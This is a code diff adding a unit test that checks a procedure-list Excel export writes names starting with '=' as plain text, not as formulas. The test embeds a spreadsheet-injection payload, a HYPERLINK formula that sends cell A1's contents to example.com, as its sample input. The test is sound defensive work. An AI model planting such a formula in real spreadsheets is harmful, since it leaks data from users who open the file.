@@ -112,6 +112,27 @@ class TestTthcReports(TthcCommon):
         self.assertEqual(rows[1][0], "Chứng thực")
         self.assertEqual({row[1] for row in rows[2:]}, {"2.000815", "1.000001"})
 
+    def test_excel_cells_are_never_formulas(self):
+        """A name pasted from a file may start with "=": it is exported as text, never as a
+        formula the spreadsheet would run."""
+        payload = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
+        self.certification.name = payload
+        self.field_cert.name = "=1+1"
+        wizard = (
+            self.env["qms.tthc.list.wizard"]
+            .with_user(self.qms_user)
+            .create({"template": "form_1", "field_ids": [Command.set(self.field_cert.ids)]})
+        )
+        Wizard = self.env["qms.tthc.list.wizard"]
+        for content in (
+            (wizard.action_export_xlsx() and base64.b64decode(wizard.file_data)),
+            Wizard._qms_build_catalogue_xlsx(self.certification),
+        ):
+            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+            cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
+            self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
+            self.assertIn(payload, [cell.value for cell in cells])
+
     def test_procedure_list_does_not_degrade_with_data(self):
         Procedure = self.env["qms.tthc.procedure"]
         Procedure.create(
